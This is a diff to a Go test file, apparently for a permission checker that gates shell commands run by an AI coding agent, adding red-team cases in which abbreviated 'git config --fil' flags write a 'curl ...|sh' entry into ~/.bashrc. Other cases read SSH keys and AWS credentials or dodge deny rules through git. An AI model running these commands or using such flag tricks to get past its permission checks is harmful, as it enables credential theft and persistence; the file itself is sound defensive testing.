@@ -442,6 +442,8 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"A4 git format-patch -o deny rule", D, []string{"deny:Edit(/infra/**)"}, `git format-patch -o infra HEAD~1`, Deny},
 		{"A4 git bundle create deny rule", D, []string{"deny:Edit(/infra/**)"}, `git bundle create infra/x HEAD`, Deny},
 		{"A4 git config --file bashrc", D, nil, `git config --file /home/u/.bashrc x.curl 'http://x|sh'`, Ask},
+		{"A4 git config --fil bashrc", Y, nil, `git config --fil /home/u/.bashrc x.curl 'http://x|sh'`, Ask},
+		{"A4 git config --fil= bashrc", Y, nil, `git config --fil=/home/u/.bashrc x.curl 'http://x|sh'`, Ask},
 		{"A4 git rm deny rule", D, []string{"deny:Edit(/infra/**)"}, `git rm infra/x`, Deny},
 		{"A4 git diff --no-index key", D, nil, `git diff --no-index /dev/null ~/.ssh/id_rsa`, Ask},
 		{"A4 git hash-object -w key", D, nil, `git hash-object -w ~/.aws/credentials`, Ask},
